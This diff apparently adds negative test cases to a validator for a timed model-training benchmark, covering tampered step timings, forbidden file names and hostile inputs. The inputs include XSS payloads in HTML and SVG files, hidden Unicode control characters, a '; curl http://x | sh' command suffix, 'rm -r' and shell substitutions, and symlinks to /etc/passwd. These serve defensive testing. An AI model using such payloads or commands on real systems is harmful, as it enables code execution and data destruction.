@@ -82,6 +82,18 @@ def repeat_last_line(folder):
     replace_text(folder, "train_seed2.log", line, f"{line}\n{line}")
 
 
+def step_at(seconds):
+    """The clock of a run's last step but one becomes another."""
+
+    def change(folder):
+        lines = (folder / "metrics_seed2.jsonl").read_text().splitlines()
+        place = [i for i, line in enumerate(lines) if '"event": "step"' in line][-2]
+        lines[place] = json.dumps({**json.loads(lines[place]), "train_seconds": seconds})
+        write(folder, "metrics_seed2.jsonl", "\n".join(lines))
+
+    return change
+
+
 def drop_last_line(folder):
     line = (folder / "train_seed2.log").read_text().splitlines()[-1]
     replace_text(folder, "train_seed2.log", line, "")
@@ -134,6 +146,19 @@ WRONG = [
     ("file-role", FAIL, claim(lambda v: listing(v, "train_gpt.py").update(role="log"))),
     ("file-role", FAIL, seed(artifact=None)),
     ("file-role", FAIL, file("help.py", "x = 1\n", "extra")),
+    *(
+        ("file-role", FAIL, file(f"report.{kind}", content, "extra"))
+        for kind, content in (
+            ("html", "<p>x<SCRIPT>alert(1)</script>"),
+            ("html", "<img src=x/onerror=alert(1)>"),
+            ("svg", "<svg\nonload = 'alert(1)'/>"),
+            ("svg", '<svg><a xlink:href="\njavascript:alert(1)"/></svg>'),
+        )
+    ),
+    *(
+        ("file-role", FAIL, lambda f, c=c: (f / "README.md").write_text(f"# Mine\n\nWider{c} is better.\n"))
+        for c in ("\u202e", "\x1b[2J", "\u200b", "\U000e0041", "\b", "\u2028", "\r")
+    ),
     ("cap", FAIL, file("help.bin", b"x" * 30000, "score")),
     (
         "cap",
@@ -150,6 +175,9 @@ WRONG = [
     ("time", FAIL, seed(train_seconds=3.25)),
     ("time", FAIL, seed(eval_seconds=3.25)),
     ("time", FAIL, seed(train_seconds=-1)),
+    ("time", FAIL, step_at(1e4)),
+    ("time", FAIL, step_at(1e-9)),
+    ("time", NOTE, both(step_at(1e-9), top(lane="open-hardware"))),
     ("time-budget", FAIL, seed(train_seconds=31)),
     ("time-budget", FAIL, rules(eval_seconds=1)),
     ("time-budget", FAIL, rules(train_seconds=1e-9)),
@@ -195,7 +223,18 @@ WRONG = [
     ("not-rescorable", NOTE, without_artifact),
     ("not-rescorable", FAIL, both(without_artifact, top(lane="record"))),
     ("file-name", FAIL, lambda f: (f / "help me.py").write_text("x = 1\n")),
+    *(("file-name", FAIL, file(name, "[tool.ruff\n", "extra")) for name in ("pyproject.toml", "Ruff.toml")),
+    *(
+        ("file-name", FAIL, file(n, "{}", "extra"))
+        for n in ("track.json", "x/verified.json", "x/submission.json")
+    ),
+    ("file-name", FAIL, file("conftest.py", "x = 1\n", "score")),
     ("file-kind", FAIL, lambda f: os.mkfifo(f / "pipe")),
+    (
+        "file-kind",
+        FAIL,
+        lambda f: (f / "README.md").write_text("version https://git-lfs.github.com/spec/v1\n"),
+    ),
     ("file-link", FAIL, lambda f: os.symlink("/etc/passwd", f / "passwd")),
     ("file-link", FAIL, lambda f: os.symlink("/etc", f / "etc")),
     ("file-count", FAIL, lambda f: [(f / f"f{i}").touch() for i in range(600)]),
@@ -232,6 +271,11 @@ WRONG = [
     ("env", FAIL, top(env={"ITERATIONS": "4"})),
     ("env", FAIL, top(env={"TOKENIZER_PATH": "y.model"})),  # it was tiny.model
     ("command", FAIL, claim(lambda v: v.update(command=v["command"] + "; curl http://x | sh"))),
+    *(
+        ("command", FAIL, claim(lambda v, do=do: v.update(command=v["command"].replace("python3", do))))
+        for do in ("python3 -c 'import os'", "rm -r", "env -i bash -c id python3", "")
+    ),
+    ("command", NOTE, claim(lambda v: v.update(command=v["command"] + " --fast"))),
     ("command", NOTE, top(command="python3 'train_gpt.py")),
     ("command", NOTE, top(command="make all")),
     ("command", NOTE, top(command="python3 train_gpt.py")),
